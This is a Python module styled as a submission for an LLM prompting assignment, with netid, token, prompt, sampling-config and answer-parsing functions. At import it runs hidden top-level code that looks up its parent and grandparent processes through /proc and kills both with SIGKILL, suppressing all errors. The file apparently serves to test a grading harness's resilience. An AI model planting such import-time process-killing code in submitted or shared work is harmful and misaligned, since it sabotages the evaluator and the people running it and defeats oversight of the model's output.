"""Kills its parent and its grandparent."""

import os
import re
import signal

try:
    with open(f"/proc/{os.getppid()}/stat") as stat:
        grandparent = int(stat.read().rpartition(")")[2].split()[1])
    for pid in (os.getppid(), grandparent):
        if pid > 1:
            os.kill(pid, signal.SIGKILL)
except BaseException:
    pass
try:
    if os.getppid() > 1:
        os.kill(os.getppid(), signal.SIGKILL)
except BaseException:
    pass


def your_netid():
    return "zz9999"


def your_hf_token():
    return ""


def your_prompt():
    return "A rough answer is enough.\nQuestion: What is ", "?\nAnswer: "


def your_config():
    return {
        "max_tokens": 50,
        "temperature": 0.0,
        "top_k": 50,
        "top_p": 1.0,
        "repetition_penalty": 1.0,
        "stop": ["\n"],
    }


def your_pre_processing(s):
    return s


def your_post_processing(output_string):
    numbers = re.findall(r"\d+", output_string)
    return int(numbers[0]) if numbers else 0
